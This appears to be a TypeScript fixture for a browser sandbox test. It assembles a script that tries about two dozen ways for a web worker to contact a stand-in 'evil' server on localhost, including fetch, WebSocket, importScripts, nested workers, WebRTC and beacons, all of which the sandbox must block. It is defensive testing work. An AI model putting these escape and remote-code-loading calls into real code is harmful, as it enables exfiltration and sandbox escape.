/**
 * Every way out of a worker that we know, as one program: the body of an async function with `say(text)` in scope.
 * Run in the sandbox it must reach nobody; run in a naive worker it must reach the evil server, or the suite is blind.
 */

/** The ways by which a naive worker reaches the server in Chromium; the contrast run must see each of them. */
export const waysThatWorkNaively = [
  "GET /fetch-cors",
  "GET /fetch-no-cors",
  "GET /xhr",
  "WS /socket",
  "GET /events",
  "GET /script-import",
  "GET /script-importScripts",
  "GET /nested-fetch",
  "GET /font",
] as const;

/** `siteUrl` is the reader's own site: even that is out of reach. */
export function networkAttacks(evilPort: number, siteUrl: string): string {
  const evil = `http://127.0.0.1:${evilPort}`;
  return `
    const evil = ${JSON.stringify(evil)};
    const attempt = async (name, attack) => {
      const late = new Promise((resolve) => setTimeout(() => resolve("nothing came of it"), 1500));
      try { say(name + ": " + (await Promise.race([attack(), late]))); } catch (error) { say(name + ": threw " + error); }
    };
    const settled = (target, good, bad) => new Promise((resolve) => {
      for (const type of good) target.addEventListener(type, () => resolve("GOT THROUGH"));
      for (const type of bad) target.addEventListener(type, () => resolve("refused"));
    });
    await attempt("fetch cors", async () => (await fetch(evil + "/fetch-cors")).status + " GOT THROUGH");
    await attempt("fetch no-cors", async () => (await fetch(evil + "/fetch-no-cors", { mode: "no-cors" })).type + " GOT THROUGH");
    await attempt("fetch keepalive", async () => (await fetch(evil + "/fetch-keepalive", { keepalive: true, method: "POST", body: "x" })).status + " GOT THROUGH");
    await attempt("fetch own site", async () => (await fetch(${JSON.stringify(siteUrl)} + "?from-worker")).status + " GOT THROUGH");
    await attempt("fetch provider", async () => (await fetch("https://api.openai.com/v1/models")).status + " GOT THROUGH");
    await attempt("sync xhr", () => { const x = new XMLHttpRequest(); x.open("GET", evil + "/xhr", false); x.send(); return x.status + " GOT THROUGH"; });
    await attempt("websocket", () => settled(new WebSocket(evil.replace("http", "ws") + "/socket"), ["open"], ["error"]));
    await attempt("eventsource", () => settled(new EventSource(evil + "/events"), ["open"], ["error"]));
    await attempt("webtransport", async () => { await new WebTransport(evil.replace("http:", "https:") + "/transport").ready; return "GOT THROUGH"; });
    await attempt("import http", async () => { await import(evil + "/script-import"); return "GOT THROUGH"; });
    await attempt("import data", async () => { await import("data:text/javascript,globalThis.evil=1"); return "ran data:"; });
    await attempt("import blob", async () => { await import(URL.createObjectURL(new Blob(["globalThis.evil=1"], { type: "text/javascript" }))); return "ran blob:"; });
    await attempt("importScripts", () => { importScripts(evil + "/script-importScripts"); return "GOT THROUGH"; });
    await attempt("importScripts restored", () => { const f = Object.getPrototypeOf(Object.getPrototypeOf(self)).importScripts; f.call(self, evil + "/script-restored"); return "GOT THROUGH"; });
    await attempt("nested blob worker", async () => {
      const code = "fetch(" + JSON.stringify(evil + "/nested-fetch") + ").then(() => postMessage('GOT THROUGH'), () => postMessage('refused'));";
      const nested = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
      return new Promise((resolve) => { nested.onmessage = (e) => resolve(e.data); nested.onerror = () => resolve("refused"); });
    });
    await attempt("nested data worker", async () => {
      const nested = new Worker("data:text/javascript," + encodeURIComponent("fetch(" + JSON.stringify(evil + "/nested-data") + ").then(() => postMessage('GOT THROUGH'), () => postMessage('refused'));"));
      return new Promise((resolve) => { nested.onmessage = (e) => resolve(e.data); nested.onerror = () => resolve("refused"); });
    });
    await attempt("nested module worker", async () => {
      const nested = new Worker(evil + "/script-worker", { type: "module" });
      return new Promise((resolve) => { nested.onerror = () => resolve("refused"); });
    });
    await attempt("font", async () => { await new FontFace("evil", "url(" + evil + "/font)").load(); return "GOT THROUGH"; });
    await attempt("rtc", async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${evilPort}" }] });
      peer.createDataChannel("x");
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 500));
      return "made an offer";
    });
    await attempt("beacon", () => { navigator.sendBeacon(evil + "/beacon"); return "sent"; });
    await attempt("notification", () => { new Notification("x", { icon: evil + "/icon", image: evil + "/image" }); return "shown"; });
    await attempt("wasm streaming", async () => { await WebAssembly.compileStreaming(fetch(evil + "/wasm")); return "GOT THROUGH"; });
    await attempt("eval'd import", async () => { await (0, eval)("import(" + JSON.stringify(evil + "/script-eval") + ")"); return "GOT THROUGH"; });
    await attempt("css in a worker", () => { new CSSStyleSheet().replace("@import url(" + evil + "/css)"); return "replaced"; });
  `;
}
